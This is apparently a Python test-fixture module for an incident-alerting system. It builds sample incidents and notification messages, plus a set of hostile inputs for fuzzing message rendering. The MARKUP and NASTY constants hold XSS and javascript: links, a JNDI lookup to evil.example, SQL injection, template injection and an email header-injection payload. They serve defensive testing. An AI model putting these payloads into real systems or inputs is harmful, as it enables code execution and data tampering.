"""Messages to tell targets: a normal life, and what a hostile producer, person or vendor would have them carry."""

from __future__ import annotations

import functools
from collections.abc import Iterator, Mapping
from datetime import UTC, datetime, timedelta
from typing import Any

from floodmark.alerts import Cause, ChangeNotice, Impact, Incident, Member
from floodmark.notify.sink import Event, Message
from floodmark.requests import ModelRequest

BEGAN = datetime(2026, 2, 1, 3, 14, tzinfo=UTC)
KEY = "inc-5b1f6c02d1a4e7f9"


def member(number: int = 0, **given: Any) -> Member:
    return Member(
        **{
            "id": f"ano-{number:016x}",
            "entity": "checkout",
            "signal": "metric",
            "series": "http_errors{service=checkout}",
            "head": "level",
            "direction": "up",
            "started_at": BEGAN,
            "ended_at": None,
            "p_value": 1e-6,
            "severity": "error",
            "summary": "http_errors is 41, expected 2 to 5",
            "why": "it calls payment",
            **given,
        }
    )


def change(**given: Any) -> ChangeNotice:
    return ChangeNotice(
        **{
            "id": "chg-91",
            "scope": "prod",
            "time": BEGAN - timedelta(minutes=3),
            "service": "payment",
            "kind": "deploy",
            "summary": "payment 3.41.0 (smaller pool)",
            "status": "succeeded",
            "version": "3.41.0",
            "environment": "production",
            "url": "https://ci.example.org/deploys/91",
            "actor": "ann@example.org",
            **given,
        }
    )


def incident(revision: int = 1, **given: Any) -> Incident:
    return Incident(
        **{
            "id": KEY,
            "event": "opened",
            "revision": revision,
            "scope": "prod",
            "severity": "error",
            "title": "payment: errors and latency, since a deploy of payment",
            "why": "checkout calls payment, and both are odd since 03:14",
            "started_at": BEGAN,
            "updated_at": BEGAN + timedelta(minutes=revision),
            "resolved_at": None,
            "resolution": "",
            "entities": ["payment", "checkout"],
            "member_count": 2,
            "members": [member(0), member(1, entity="payment", signal="log", summary="5 new lines: pool exhausted")],
            "causes": [Cause(entity="payment", share=0.72, reason="it changed before", anomalies=[], change="chg-91")],
            "changes": [change()],
            "labels": {"env": "production", "team": "payments"},
            "lines": ["ERROR pool exhausted after 30 s"],
            "impact": [
                Impact(
                    entity="checkout",
                    series="orders",
                    name="orders",
                    unit="orders/min",
                    since=BEGAN,
                    share=-0.32,
                    loss=120.5,
                    summary="orders: 32% less than expected, 120 so far",
                )
            ],
            "watermark": BEGAN + timedelta(minutes=revision),
            **given,
        }
    )


def telling(event: Event, revision: int = 1, target: str = "t", **given: Any) -> Message:
    """A message of the kind that `event` has."""
    common: dict[str, Any] = {
        "key": KEY,
        "event": event,
        "at": BEGAN + timedelta(minutes=revision),
        "revision": revision,
        "reason": "it is worse",
    }
    about: dict[str, Any] = {}
    if event in ("open", "update", "resolve"):
        ended = event == "resolve"
        about = {
            "loud": event == "open",
            "state": "resolved" if ended else "open",
            "owner": "ann",
            "team": "payments",
            "people": ("ann", "bob"),
            "link": f"https://floodmark.example.org/incidents/{KEY}",
            "runbook": "https://wiki.example.org/payment",
            "incident": incident(
                revision,
                event="resolved" if ended else ("opened" if revision == 1 else "updated"),
                resolved_at=BEGAN + timedelta(minutes=revision) if ended else None,
                resolution="all its anomalies are over" if ended else "",
            ),
        }
    elif event == "digest":
        about = {"key": "storm-r1", "lines": ("12 incidents in 5 minutes", "payment: errors", "cart: latency")}
    elif event == "change":
        about = {"key": "chg-91", "change": change()}
    elif event in ("request", "playbook"):
        asked = ModelRequest(
            id="req-0a1b2c",
            kind="rollback" if event == "playbook" else "retrain",
            model="fraud",
            why="its precision fell from 0.91 to 0.78",
            by="floodmark",
            at=BEGAN,
            version="7",
            incident=KEY,
            parameters={"since": "2026-01-01"},
        )
        about = {"key": asked.id, "request": asked}
        if event == "playbook":
            about = {"key": KEY, "playbook": "rollback-payment", "incident": incident()}
            about["parameters"] = {"service": "payment", "incident": KEY, "version": "3.40.2"}
    fields = {**common, **about, **given}
    return Message(**{"id": f"{fields['key']}/{revision}/{target}/{event}", **fields})


def life() -> Iterator[Message]:
    """Open, twice more, over, open again, over."""
    yield telling("open", 1)
    yield telling("update", 2)
    yield telling("update", 3, state="acked", owner="bob")
    yield telling("resolve", 4)
    yield telling("open", 5, reason="it is open again")
    yield telling("resolve", 6)


MARKUP = (
    "<script>alert(1)</script>",
    "<!channel>",
    "<@U0123>",
    "<at>everyone</at>",
    "[click](javascript:alert(1))",
    "{panic}",
    "{{ danger }}",
    "%{secret}",
    "${jndi:ldap://evil.example/a}",
    "@here *bold* _it_ ~no~ `code` |pipe| ||",
    "'; DROP TABLE x; --",
    "]]>&amp;&#0;",
    "\\u0000 \\n \\",
)
"""What means something to somebody who shows it."""

NASTY: Mapping[str, str] = {
    "long": "payment is slow " * 625,
    "one long word": "x" * 10_000,
    "emoji": "🔥👩‍👩‍👧‍👦" * 2_000,
    "right to left": "\u202eevil\u202c \u2066isolated\u2069 \u200f\u05e9\u05dc\u05d5\u05dd",
    "markup": " ".join(MARKUP),
    "control": "a\x00b\x01c\x1b[31mred\x1b[0m\x7f\x85\u2028\u2029\ufeff",
    "lines": "one\r\ntwo\nthree\rfour\ttab\n\n\n",
    "header": "x\r\nBcc: everybody@example.org\r\n\r\n.\r\nQUIT",
    "lone surrogate": "a\ud800b\udfffc",
    "empty": "",
    "blank": " \t\n ",
    "combining": "e" + "\u0301" * 5_000,
    "noncharacters": "a\ufffeb\uffffc\U0010ffffd\U0001f600",
    "quotes": '"\'`\\"\\\\',
}


@functools.cache
def nasty(event: Event) -> tuple[tuple[str, Message], ...]:
    """Messages with hostile text in every field that a producer or a person can fill, each with its name."""
    return tuple(_nasty(event))


def _nasty(event: Event) -> Iterator[tuple[str, Message]]:
    for name, text in NASTY.items():
        yield name, filled(event, text)
    if event in ("open", "update", "resolve"):
        yield "10,000 members", telling(event, incident=huge())
        yield "nothing in it", telling(event, incident=bare(), reason="", owner="", team="", people=(), link="")
        yield "1970 and 9999", telling(event, incident=incident(started_at=datetime(1970, 1, 1, tzinfo=UTC)))
        yield "links", telling(event, link="javascript:alert(1)", runbook="http://insecure.example.org/\r\nx")
        yield "by chance", telling(event, incident=incident(by_chance=float("inf")))


def filled(event: Event, text: str) -> Message:
    """A message with the text wherever a text may be."""
    given: dict[str, Any] = {
        "reason": text,
        "owner": text,
        "team": text,
        "people": (text, text),
        "lines": (text,) * 60,
        "parameters": {"service": text, text: text},
        "runbook": text,
    }
    example = telling(event)
    if example.incident is not None:
        members = [member(n, entity=text, summary=text, series=text, why=text, template=text) for n in range(12)]
        given["incident"] = incident(
            scope=text,
            title=text,
            why=text,
            resolution=text,
            entities=[text] * 60,
            member_count=12,
            members=members,
            causes=[Cause(entity=text, share=0.5, reason=text, anomalies=[text])] * 5,
            changes=[_changed(text)] * 5,
            labels={text: text, **{f"{text[:40]}{n}": text for n in range(60)}},
            lines=[text] * 20,
            impact=[
                Impact(entity=text, series=text, name=text, unit=text, since=BEGAN, share=None, loss=1.0, summary=text)
            ],
        )
    if example.change is not None:
        given["change"] = _changed(text)
    if example.request is not None:
        request = example.request
        given["request"] = ModelRequest(
            id=request.id,
            kind=request.kind,
            model=text[:200] or "m",
            why=text[:2_000] or "w",
            by=text[:200] or "b",
            at=BEGAN,
            version=text[:200],
            parameters={text: text},
        )
    return telling(event, **given)


def _changed(text: str) -> ChangeNotice:
    return change(id=text, scope=text, service=text, summary=text, version=text, environment=text, url=text, actor=text)


def huge() -> Incident:
    """An incident with more than any target takes."""
    members = [member(n, entity=f"service-{n:05d}", labels={"pod": f"p-{n}"}) for n in range(10_000)]
    return incident(
        entities=[each.entity for each in members],
        member_count=250_000,
        members=members,
        labels={f"label_{n}": "v" * 300 for n in range(500)},
        lines=["l" * 4_000] * 200,
        changes=[change(id=f"c-{n}") for n in range(1_000)],
    )


def bare() -> Incident:
    """An incident of which nothing is known."""
    return incident(
        scope="",
        title="",
        why="",
        entities=[],
        member_count=0,
        members=[],
        causes=[],
        changes=[],
        labels={},
        lines=[],
        impact=[],
    )
